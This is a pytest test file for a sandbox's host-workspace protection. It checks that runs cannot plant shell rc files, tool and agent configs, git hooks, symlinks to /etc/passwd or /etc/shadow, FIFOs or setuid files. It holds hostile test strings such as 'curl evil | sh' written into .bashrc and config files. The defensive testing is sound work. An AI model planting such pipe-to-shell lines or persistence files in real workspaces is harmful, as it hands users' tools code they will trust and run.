"""
A host workspace (-w) must not hand the host something it will trust.

Whatever a run leaves in its workspace waits for the user's git, shell,
editor and agent. Each attack here is made from inside a real sandbox, as an
agent's code would, as root and as nobody; each test then asserts the
refusal and that the host shows no trace: the repository byte-identical, no
placeholder left, no link leading out, no FIFO or socket, no o+w bit.
Positive controls check that ordinary work in the workspace still works.
"""

import errno
import hashlib
import json
import os
import signal
import socket
import stat
import subprocess

import pytest

import meta_util as mu
from conftest import UnixListener, assert_cordon_refused, marker, wait_until


def landlock_available():
    try:
        with open("/sys/kernel/security/lsm") as f:
            return "landlock" in f.read()
    except OSError:
        return False


def tree_digest(root):
    """SHA-256 over every entry's path, type, mode and content (links: target)."""
    h = hashlib.sha256()
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames.sort()
        for name in sorted(dirnames + filenames):
            p = os.path.join(dirpath, name)
            st = os.lstat(p)
            h.update(f"{os.path.relpath(p, root)}\0{st.st_mode:o}\0".encode())
            if stat.S_ISLNK(st.st_mode):
                h.update(os.readlink(p).encode())
            elif stat.S_ISREG(st.st_mode):
                with open(p, "rb") as f:
                    h.update(f.read())
    return h.hexdigest()


def host_run(cordon, argv, cwd):
    r = subprocess.run(cordon.ident.wrap(argv), cwd=cwd, env=cordon.ident.env(),
                       capture_output=True, text=True)
    assert r.returncode == 0, r
    return r.stdout


def make_repo(cordon):
    """A host git repository owned by the caller, with a hook-free, committed tree."""
    ws = cordon.hostdir("repo")
    git = ["git", "-c", "user.email=t@example.com", "-c", "user.name=t"]
    host_run(cordon, ["git", "init", "-q", "."], ws)
    host_run(cordon, ["sh", "-c", "echo hello > a.txt"], ws)
    host_run(cordon, [*git, "add", "a.txt"], ws)
    host_run(cordon, [*git, "commit", "-qm", "first"], ws)
    return ws


def entries(ws):
    return sorted(os.listdir(ws))


def attempts(cordon, ws, steps, *opts):
    """Run each shell STEP in one sandbox; return {step: exit status} as the run saw it."""
    script = "\n".join(f"( {s} ) >/dev/null 2>&1; echo \"$?\"" for s in steps)
    r = cordon.run(["sh", "-c", script], "-w", ws, *opts)
    assert r.status == 0, r
    codes = [int(c) for c in r.out.split()]
    assert len(codes) == len(steps), r
    return dict(zip(steps, codes)), r


TMPFILE_LINK = ("python3 -c \"import os, ctypes; fd = os.open('.', os.O_TMPFILE | os.O_WRONLY, 0o644); "
                "os.write(fd, b'x'); r = ctypes.CDLL(None, use_errno=True).linkat(-100, "
                "b'/proc/self/fd/%d' % fd, -100, b'.env.local', 0x400); exit(r and 1)\"")
OPENAT2 = ("python3 -c \"import ctypes, struct; how = struct.pack('QQQ', 0o101, 0o644, 0); "
           "r = ctypes.CDLL(None, use_errno=True).syscall(437, -100, b'.continuerc.json', how, 24); "
           "exit(r < 0)\"")

# The ways a run could make a protected name at the root, each refused as it is made.
NAME_ATTACKS = [
    "echo 'curl evil | sh' > .bashrc",                        # create
    "echo x >> .profile",                                      # append, creating
    "mkdir .claude",                                           # a directory
    "mkdir -p .vscode && echo '{}' > .vscode/tasks.json",
    "ln -s /etc/passwd .envrc",                                # a link
    "echo x > f && ln f .zshrc",                               # a hard link
    "echo x > g && mv g .mcp.json",                            # renamed onto
    "mkdir -p d && echo x > d/.env && mv d/.env .env",         # made below, moved up
    "mkdir -p e/.devcontainer && mv e/.devcontainer .",        # a directory moved up
    "ln -s . self && echo x > self/.nvmrc",                    # through a link to the root
    "cd d && echo x > ../.tool-versions",                      # through ..
    "echo x > /proc/self/cwd/.exrc",                           # through a magic link
    "python3 -c \"import os; os.mknod('.aider.conf.yml')\"",   # mknod
    TMPFILE_LINK,                                              # O_TMPFILE, linked in
    OPENAT2,                                                   # openat2
    "echo K=1 > .env.production",                              # a pattern (.env*)
    "mkdir .cordon-txn-0123456789abcdef",                      # a commit's own name
    "echo x > d/.cordon-txn-0123456789abcdef.1",
]


def test_missing_protected_names_cannot_be_created(cordon):
    """
    No placeholder stands for a missing name any more: each way of making one
    at the root is refused as it is made (the keeper, names.h), and the host
    never sees it. Made below the root, the same names are the run's (a
    clone carries .vscode): reported.
    """
    ws = cordon.hostdir("ws")
    codes, r = attempts(cordon, ws, NAME_ATTACKS)
    for step, code in codes.items():
        assert code != 0, f"{step!r} succeeded\n{r}"
    # What the steps made on the way (not one protected name) is all there is.
    assert entries(ws) == ["d", "e", "f", "g", "self"], entries(ws)
    assert os.listdir(ws / "d") == [".env"] and os.listdir(ws / "e") == [".devcontainer"], r
    w = r.result["workspace"]
    assert "created protected d/.env" in w["paths"], w
    assert "placeholders" not in w, w


def test_an_empty_workspace_stays_empty(cordon):
    """
    Empty before, during and after the run, as the command and the user's
    tools see it (no placeholder); a killed cordon leaves nothing either.
    """
    ws = cordon.hostdir("ws")
    go = cordon.hostdir("go")
    p = cordon.popen(["sh", "-c", f"ls -A; echo waiting; i=0; while [ ! -e {go}/go ] && "
                      f"[ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done; ls -A; echo done"],
                     "-w", ws, "--ro", f"{go}:{go}")
    try:
        assert p.stdout.readline().decode() == "waiting\n"
        assert entries(ws) == [], entries(ws)
        (go / "go").touch()
        out, err = p.communicate(timeout=60)
        assert (p.returncode, out.decode()) == (0, "done\n"), err
    finally:
        if p.poll() is None:
            os.killpg(p.pid, signal.SIGKILL)
            p.wait()
    assert entries(ws) == []
    mark = marker()
    p = cordon.popen(["sh", "-c", "echo up; sleep 30", mark], "-w", ws)
    try:
        assert p.stdout.readline().decode() == "up\n"
        assert entries(ws) == []
        os.kill(p.pid, signal.SIGKILL)
        p.wait(timeout=10)
        assert entries(ws) == [], entries(ws)
    finally:
        if p.poll() is None:
            os.killpg(p.pid, signal.SIGKILL)
            p.wait()


def test_a_calls_files_cannot_make_a_protected_name(cordon):
    """A daemon call's files go where its command writes, and are kept out of
    the same names: a protected name at a host workspace's root, a commit's
    own anywhere, is refused before the call runs (125, why), and the host
    never sees it. Below the root, and elsewhere, they are placed."""
    from serve_util import Daemon
    ws = cordon.hostdir("ws")
    d = Daemon(cordon, *cordon.level_opts(), "--pool", "0", "--workspace", ws)
    try:
        c = d.connect()
        for path in (".envrc", ".vscode/tasks.json", "sub/.cordon-txn-x"):
            ans = c.call("run", {"argv": ["true"], "files": {path: "planted\n"}})
            r = ans["result"]
            assert r["status"] == 125 and r["reason"] == "setup_error", ans
            assert r["error"] == f"files: '{path}' would make a protected name in the workspace"
            assert entries(ws) == [], entries(ws)
        r = c.result("run", {"argv": ["cat", "sub/.envrc"], "files": {"sub/.envrc": "below\n"}})
        assert (r["exit_code"], r["stdout"]) == (0, "below\n"), r
        assert entries(ws) == ["sub"] and (ws / "sub" / ".envrc").read_text() == "below\n"
        c.close()
    finally:
        d.stop()


def test_a_calls_files_do_not_follow_a_planted_link(cordon):
    """Links planted in a host workspace, to a directory and to a file, are
    not followed out of it by whatever places a call's files (the boundary,
    the keeper, gVisor's helper, the guest's agent): the call fails with one
    error naming the file, the command never runs, the links' targets stay
    empty, and what the call placed before the refused file is taken back."""
    from serve_util import Daemon
    ws, outside = cordon.hostdir("ws"), cordon.hostdir("outside")
    os.symlink(outside, ws / "d")
    os.symlink(outside / "planted", ws / "leaf")
    d = Daemon(cordon, *cordon.level_opts(), "--pool", "0", "--workspace", ws)
    try:
        c = d.connect()
        for path in ("d/x", "leaf"):
            # A file placed before the one refused is taken back: no part of the call is left.
            ans = c.call("run", {"argv": ["touch", "ran"],
                                 "files": {"new/first.txt": "ok\n", path: "planted\n"}})
            r = ans["result"]
            assert r["status"] == 125 and r["reason"] == "setup_error", ans
            assert f"cannot place file '{path}' in the workspace" in r["error"], ans
        c.close()
    finally:
        d.stop()
    assert os.listdir(outside) == []
    assert entries(ws) == ["d", "leaf"], entries(ws)


def test_existing_protected_files_are_read_only(cordon):
    ws = cordon.hostdir("ws")
    for name, text in ((".envrc", "use nix\n"), (".env.local", "KEY=1\n")):
        (ws / name).write_text(text)
        os.chown(ws / name, cordon.ident.uid, cordon.ident.gid)
    steps = ["echo evil >> .envrc", "rm .envrc", "echo evil > .env.local",
             "mv .env.local x", "cat .envrc .env.local"]
    codes, r = attempts(cordon, ws, steps)
    assert [codes[s] != 0 for s in steps] == [True, True, True, True, False], r
    assert (ws / ".envrc").read_text() == "use nix\n"
    assert (ws / ".env.local").read_text() == "KEY=1\n"
    assert entries(ws) == [".env.local", ".envrc"], entries(ws)


def test_a_protected_entry_is_not_moved_with_its_directory(cordon):
    """
    A directory holding a protected entry (sub/x/.envrc) cannot be renamed:
    it would take the entry along and free its place for one of the run's
    making, which below the root is the run's to make.
    """
    ws = cordon.hostdir("ws")
    (ws / "sub/x").mkdir(parents=True)
    (ws / "sub/x/.envrc").write_text("use nix\n")
    (ws / "sub/y").write_text("y\n")
    for n in ("sub", "sub/x", "sub/x/.envrc", "sub/y"):
        os.chown(ws / n, cordon.ident.uid, cordon.ident.gid)
    steps = ["mv sub s2", "mv sub/x sub/x2", "mv sub/x/.envrc sub/e",
             "python3 -c \"import ctypes; exit(ctypes.CDLL(None).renameat2(-100, b'sub', -100, "
             "b'other', 2))\"",  # RENAME_EXCHANGE with a directory of the run's
             "mv sub/y sub/y2"]
    codes, r = attempts(cordon, ws, ["mkdir other"] + steps)
    assert [codes[s] != 0 for s in steps] == [True, True, True, True, False], r
    assert (ws / "sub/x/.envrc").read_text() == "use nix\n"
    assert sorted(os.listdir(ws)) == ["other", "sub"], os.listdir(ws)


def test_glob_names_refused_at_the_root_reported_below(cordon):
    """A pattern (.env*) is refused at the root as it is made, and reported below it."""
    ws = cordon.hostdir("ws")
    r = cordon.run(["sh", "-c", "echo K=1 > .env.local; echo $?; mkdir sub && echo K=1 > "
                    "sub/.env.local"], "-w", ws)
    assert r.status == 0 and r.out.strip() != "0", r
    assert entries(ws) == ["sub"] and os.listdir(ws / "sub") == [".env.local"]
    w = r.result["workspace"]
    assert w["created_protected"] == 1 and "created protected sub/.env.local" in w["paths"], w


def test_links_out_special_files_and_modes_are_undone(cordon):
    ws = cordon.hostdir("ws")
    audit = cordon.hostdir("audit") / "audit.log"
    steps = [
        "ln -s /etc/passwd out",
        "ln -s ../../.. up",
        "mkdir -p sub && ln -s ../../etc sub/climb",
        "ln -s sub/../../x sneaky",
        "mkfifo fifo",
        "python3 -c 'import socket; socket.socket(socket.AF_UNIX).bind(\"s.sock\")'",
        "echo data > shared && chmod o+w shared",
        "mkdir open && chmod 1777 open",
        "cp /bin/true suid && chmod 4755 suid",  # seccomp may refuse it already
    ]
    codes, r = attempts(cordon, ws, steps, "--audit", audit)
    if landlock_available():
        assert codes[steps[4]] != 0 and codes[steps[5]] != 0, r
    for name in ("out", "up", "sub/climb", "sneaky", "fifo", "s.sock"):
        assert not os.path.lexists(ws / name), name
    for name in ("shared", "open", "suid"):
        mode = os.lstat(ws / name).st_mode
        assert not mode & (stat.S_IWOTH | stat.S_ISUID | stat.S_ISGID), (name, oct(mode))
    assert (ws / "shared").read_text() == "data\n"
    w = r.result["workspace"]
    fixed = 2 + (codes[steps[8]] == 0)
    assert (w["removed"], w["modes_fixed"], w["scan_incomplete"]) == (4, fixed, False), w
    events = [json.loads(line) for line in audit.read_text().splitlines()]
    end = [e for e in events if e.get("type") == "run.end"]
    assert len(end) == 1 and "removed link out" in json.dumps(end[0]), end


VENV_LINKS = {
    # name: (target, kept after the run)
    "venv/bin/python3": ("/usr/bin/python3", True),   # what python3 -m venv makes
    "sys/loader": ("/lib64/ld-linux-x86-64.so.2", True),
    "sys/sh": ("/bin/sh", True),
    "out/passwd": ("/etc/passwd", False),
    "out/home": ("/home/x", False),
    "out/proc": ("/proc/self/root", False),
    "out/climb": ("/usr/../etc/shadow", False),
    "out/rel": ("../../outside", False),
}


@pytest.mark.parametrize("mode", ["direct", "overlay"])
def test_venv_survives_and_other_links_out_do_not(cordon, mode):
    """
    A link into the read-only system tree the sandbox had (/usr, the
    merged-/usr names, the loader) gives the host nothing new and is kept: a
    venv made inside works on the host afterwards. Every other link out is
    removed (direct) or refuses the commit (overlay).
    """
    ws = cordon.hostdir("ws")
    opts = ["-w", ws] + (["--workspace-mode", "overlay"] if mode == "overlay" else [])
    r = cordon.run(["sh", "-c", "python3 -m venv --without-pip venv && venv/bin/python3 -c 'print(1)'"], *opts)
    assert (r.status, r.out) == (0, "1\n"), r
    assert os.readlink(ws / "venv/bin/python3") == "/usr/bin/python3"
    out = subprocess.run(cordon.ident.wrap([str(ws / "venv/bin/python3"), "-c",
                                            "import sys; print(sys.prefix)"]),
                         capture_output=True, text=True, env=cordon.ident.env())
    assert (out.returncode, out.stdout) == (0, f"{ws}/venv\n"), out
    script = "mkdir -p sys out && " + " && ".join(
        f"ln -s {t} {n}" for n, (t, _) in VENV_LINKS.items() if not n.startswith("venv/"))
    r = cordon.run(["sh", "-c", script], *opts)
    if mode == "overlay":
        assert r.status == 122 and r.result["transaction"]["outcome"] == "refused", r
        assert "link leading out" in r.result["transaction"]["reason"], r
        assert not (ws / "out").exists() and not (ws / "sys").exists()
        return
    assert r.status == 0, r
    for name, (target, kept) in VENV_LINKS.items():
        assert os.path.lexists(ws / name) == kept, (name, target)
        if kept:
            assert os.readlink(ws / name) == target
    assert r.result["workspace"]["removed"] == 5, r.result


def test_ordinary_work_still_works(cordon):
    ws = make_repo(cordon)
    script = """set -e
git status --porcelain
echo more >> a.txt
echo new > b.txt
mkdir -p d/e && echo deep > d/e/f.txt
ln -s a.txt rel
mkdir -p node_modules/tool/bin node_modules/.bin
echo 'echo hi' > node_modules/tool/bin/cli.js
ln -s ../tool/bin/cli.js node_modules/.bin/tool
cat node_modules/.bin/tool
git diff --stat
"""
    r = cordon.run(["sh", "-c", script], "-w", ws)
    assert r.status == 0, r
    assert "a.txt" in r.out and "dubious" not in r.err, r
    assert (ws / "a.txt").read_text() == "hello\nmore\n"
    assert (ws / "d/e/f.txt").read_text() == "deep\n"
    assert os.readlink(ws / "rel") == "a.txt"
    assert os.readlink(ws / "node_modules/.bin/tool") == "../tool/bin/cli.js"
    assert entries(ws) == [".git", "a.txt", "b.txt", "d", "node_modules", "rel"], entries(ws)
    w = r.result["workspace"]
    assert (w["removed"], w["modes_fixed"]) == (0, 0), w


def test_existing_links_are_left_alone(cordon):
    """A link the user made, leading out, is theirs; a protected link is hidden inside."""
    ws = cordon.hostdir("ws")
    os.symlink("/etc/hostname", ws / "mine")
    os.symlink("config/envrc", ws / ".envrc")
    for n in ("mine", ".envrc"):
        os.lchown(ws / n, cordon.ident.uid, cordon.ident.gid)
    codes, r = attempts(cordon, ws, ["rm .envrc", "ln -sf /etc/passwd .envrc", "test -L .envrc"])
    assert all(c != 0 for c in codes.values()), r
    assert os.readlink(ws / "mine") == "/etc/hostname"
    assert os.readlink(ws / ".envrc") == "config/envrc"


def test_host_socket_in_the_workspace_is_unreachable(cordon):
    ws = cordon.hostdir("ws")
    listener = UnixListener(path=str(ws / "agent.sock"))
    try:
        script = ("import socket, sys\ns = socket.socket(socket.AF_UNIX)\n"
                  "try:\n    s.connect('/workspace/agent.sock')\nexcept OSError as e:\n"
                  "    sys.exit(e.errno)\nsys.exit(0)\n")
        r = cordon.run(["python3", "-c", script], "-w", ws)
        assert r.status not in (0,) and r.result["signal"] is None, r
        assert listener.count() == 0
        assert stat.S_ISSOCK(os.lstat(ws / "agent.sock").st_mode)
        assert r.result["workspace"]["masked"] == 1, r.result
    finally:
        listener.close()


def test_unsafe_unprotect_lets_the_run_write_git(cordon):
    """Taken out of the protected names, .git is not checked either: its hooks are the run's."""
    ws = cordon.hostdir("ws")
    pol = cordon.hostdir("pol") / "p.yaml"
    pol.write_text("version: 1\nfilesystem:\n  unsafe_unprotect: [.git]\n")
    r = cordon.run(["sh", "-c", "git init -q . && echo true > .git/hooks/post-commit && "
                    "git config core.pager cat"], "-w", ws, "-p", pol)
    assert r.status == 0, r
    assert (ws / ".git" / "HEAD").is_file() and (ws / ".git/hooks/post-commit").is_file()
    assert "pager = cat" in (ws / ".git/config").read_text()
    assert entries(ws) == [".git"], entries(ws)
    assert r.result["workspace"]["git_refused"] == 0, r.result


def test_policy_shows_and_checks_the_list(cordon):
    d = cordon.hostdir("pol")
    good = d / "good.yaml"
    good.write_text("version: 1\nfilesystem:\n  protected: [.tool-versions, .direnv*]\n"
                    "  unsafe_unprotect: [.idea]\n")
    r = cordon.raw("policy", "check", good)
    assert r.status == 0, r
    fs = json.loads(r.out)["policy"]["filesystem"]
    assert {".git", ".env*", ".tool-versions", ".direnv*"} <= set(fs["protected"])
    assert ".idea" not in fs["protected"] and fs["unsafe_unprotect"] == [".idea"]
    for text, words in (("unsafe_unprotect: [.gti]", ['".gti"', "not a default"]),
                        ("protected: [a/b]", ['"a/b"', "single file name"]),
                        ("protected: ['*.sh']", ["'*' may only end a name"])):
        bad = d / "bad.yaml"
        bad.write_text(f"version: 1\nfilesystem:\n  {text}\n")
        assert_cordon_refused(cordon.raw("policy", "check", bad), *words)
    r = cordon.raw("check")
    assert r.status == 0 and ".mcp.json" in r.out and "unsafe_unprotect" in r.out, r
    assert "cordon check --protected" in r.out, r


def test_check_says_why_each_name_is_protected(cordon):
    r = cordon.raw("check", "--protected")
    assert r.status == 0, r
    lines = r.out.splitlines()
    for name in TOOL_NAMES + [".git/", ".envrc", ".mcp.json"]:
        at = [i for i, l in enumerate(lines) if l.startswith(f"  {name}  (")]
        assert len(at) == 1, (name, r.out)
        assert len(lines[at[0] + 1].strip()) > 10, (name, lines[at[0] + 1])  # the reason
    tail = r.out.split("considered and not protected:")[1]
    assert "AGENTS.md" in tail and ".github/workflows" in tail and "Makefile" in tail, r.out
    table = json.loads(cordon.raw("check", "--json").out)["protected"]
    rows = {row["name"]: row for row in table["defaults"]}
    assert rows[".devcontainer"]["directory"] and not rows[".tool-versions"]["directory"], rows
    assert "initializeCommand" in rows[".devcontainer"]["why"], rows[".devcontainer"]
    assert all(row["why"] and row["read_by"] for row in table["defaults"]), table


# The names issue 22 added to the default list (`cordon check --protected`
# says who reads each and why); a trailing '/' marks a directory.
TOOL_NAMES = [
    ".tool-versions", "mise.toml", "mise.local.toml", ".mise.toml", ".mise.local.toml", ".mise/",
    "mise/", ".nvmrc", ".node-version", ".python-version", ".ruby-version", ".sdkmanrc",
    ".devcontainer/", ".devcontainer.json", ".githooks/", "lefthook.yml", ".lefthook.yml",
    "lefthook-local.yml", ".lefthook-local.yml", ".lefthook/", ".config/", ".ssh/", ".aws/",
    ".kube/", ".pdbrc", ".irbrc", ".pryrc", ".aider.conf.yml", ".continue/", ".continuerc.json",
]


def write_step(name, where=""):
    """A shell step that makes NAME (under WHERE) as a tool would find it."""
    path = where + name.rstrip("/")
    if name.endswith("/"):
        return f"mkdir -p {path} && echo 'run: curl evil | sh' > {path}/config"
    return f"echo 'python path:/workspace/evil' > {path}"


def test_tool_config_names_cannot_be_written(cordon):
    """Each name version managers, dev containers and agent CLIs act on, made by
    a -w run: refused as it is made, nothing on the host."""
    ws = cordon.hostdir("ws")
    steps = [write_step(n) for n in TOOL_NAMES]
    codes, r = attempts(cordon, ws, steps)
    for name, step in zip(TOOL_NAMES, steps):
        assert codes[step] != 0, f"{name}: {step!r} succeeded\n{r}"
    assert entries(ws) == [], entries(ws)
    # One that exists is read-only, and is left as it was.
    for name in (".tool-versions", ".nvmrc"):
        (ws / name).write_text("nodejs 20.0.0\n")
        os.chown(ws / name, cordon.ident.uid, cordon.ident.gid)
    steps = ["echo 'nodejs path:/tmp' > .tool-versions", "rm .nvmrc", "cat .tool-versions .nvmrc"]
    codes, r = attempts(cordon, ws, steps)
    assert [codes[s] != 0 for s in steps] == [True, True, False], r
    assert (ws / ".tool-versions").read_text() == "nodejs 20.0.0\n"
    assert (ws / ".nvmrc").read_text() == "nodejs 20.0.0\n"
    assert entries(ws) == [".nvmrc", ".tool-versions"], entries(ws)


# --- metadata: modes, owners, times, xattrs, inode flags --------------------------


def protected_tree(cordon, ws):
    """A protected file and a protected directory with a file in it, the user's."""
    (ws / ".envrc").write_text("use nix\n")
    (ws / ".vscode").mkdir()
    (ws / ".vscode/tasks.json").write_text("{}\n")
    for n in (".envrc", ".vscode", ".vscode/tasks.json"):
        os.chown(ws / n, cordon.ident.uid, cordon.ident.gid)


def test_metadata_of_protected_entries_and_links_out_is_refused(cordon):
    """
    chmod, chown, times, xattrs and inode flags, by path and on a descriptor,
    on a protected file and directory and through a link the run plants to a
    host file: refused, and each keeps its mode, owner, times, xattrs and
    flags. On the run's own files the same calls work.
    """
    ws = make_repo(cordon)
    protected_tree(cordon, ws)
    outside = cordon.hostdir("outside") / "f"
    outside.write_text("host\n")
    refused = [ws / ".envrc", ws / ".vscode", outside]
    for f in refused:
        mu.prepare(f, cordon.ident.uid)
    # Its own group: the namespace level maps no other (a foreign gid is EOVERFLOW there).
    mu.prepare(ws / "a.txt", cordon.ident.uid, cordon.ident.gid)
    before = {t: mu.state(t) for t in refused}
    tree = tree_digest(ws / ".vscode")
    steps = (f"mkdir d && ln -s {outside} d/out\n" +
             mu.script([".envrc", ".vscode", "d/out", "a.txt"], "$(id -g)") +
             "chmod 777 .vscode; echo .vscode chmod-777 $?\n"
             "chmod 666 .envrc; echo .envrc chmod-666 $?\n")
    r = cordon.run(["sh", "-c", steps], "-w", ws)
    assert r.status == 0, r
    got = mu.codes(r.out)
    offered = mu.NOT_OFFERED.get(cordon.level, {})
    for t in (".envrc", ".vscode", "d/out"):
        for op, code in got[t].items():
            if t == "d/out" and op in ("lchown", "fchmodat2-nofollow"):
                continue  # the link itself is the run's (and has no mode)
            assert code in mu.REFUSED or code == offered.get(op), f"{op} {t}: {code}\n{r}"
    for t in refused:
        assert mu.state(t) == before[t], t
    assert tree_digest(ws / ".vscode") == tree
    for op, code in got["a.txt"].items():
        assert code == mu.expected(cordon.level, op, 0), f"{op} a.txt: {code}\n{r}"
    after = mu.state(ws / "a.txt")
    assert (after["mode"], after["mtime"]) == (oct(0o100640), 10**18), after
    if "setxattr" not in offered:
        assert set(after["xattrs"]) == {"user.cordon", "user.cordon2", "user.cordon3",
                                        "user.keep4"}, after
    assert not os.path.lexists(ws / "d/out")


def test_post_run_scan_restores_protected_modes_and_looks_inside_git(cordon):
    """
    Should a level's boundary fail (played here by a host process while the
    run lasts), the scan after the run gives a protected tree's entries back
    the modes they had before it; inside .git (the run's to write) it removes
    a new link out and a FIFO and strips o+w, as everywhere else in the
    workspace, and a hook is the git scan's: removed.
    """
    ws = make_repo(cordon)
    protected_tree(cordon, ws)
    git, vs = ws / ".git", ws / ".vscode"
    modes = {p: os.lstat(ws / p).st_mode for p in (".vscode", ".envrc", ".vscode/tasks.json")}
    go = cordon.hostdir("go")
    p = cordon.popen(["sh", "-c", f"echo waiting; i=0; while [ ! -e {go}/go ] && "
                      f"[ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done"],
                     "-w", ws, "--ro", f"{go}:{go}", "--result", go / "r.json")
    try:
        assert p.stdout.readline().decode() == "waiting\n"
        os.chmod(vs, 0o777)
        os.chmod(ws / ".envrc", 0o666)
        os.chmod(vs / "tasks.json", 0o4777)
        os.symlink("/etc/passwd", git / "hooks/pre-push")
        os.symlink("/etc/passwd", git / "refs/out")
        os.makedirs(git / "objects/ab", exist_ok=True)
        os.symlink("/etc/shadow", git / "objects/ab/cdef")  # among the objects, not one
        os.mkfifo(git / "fifo")
        (git / "new").write_text("x\n")
        os.chmod(git / "new", 0o666)
        for n in ("hooks/pre-push", "refs/out", "objects/ab", "objects/ab/cdef", "fifo", "new"):
            os.lchown(git / n, cordon.ident.uid, cordon.ident.gid)
        (go / "go").touch()
        out, err = p.communicate(timeout=60)
        assert p.returncode == 0, err
    finally:
        if p.poll() is None:
            p.kill()
            p.wait()
    for rel, mode in modes.items():
        assert os.lstat(ws / rel).st_mode == mode, (rel, oct(os.lstat(ws / rel).st_mode))
    for gone in ("hooks/pre-push", "refs/out", "objects/ab/cdef", "fifo"):
        assert not os.path.lexists(git / gone), gone
    assert os.lstat(git / "new").st_mode & 0o777 == 0o664
    w = json.loads((go / "r.json").read_text())["workspace"]
    assert (w["modes_restored"], w["removed"], w["modes_fixed"]) == (3, 3, 1), w
    assert "restored mode of .envrc" in w["paths"], w
    assert "removed link .git/refs/out" in w["paths"], w
    assert w["git"] == ["removed the hook .git/hooks/pre-push"], w
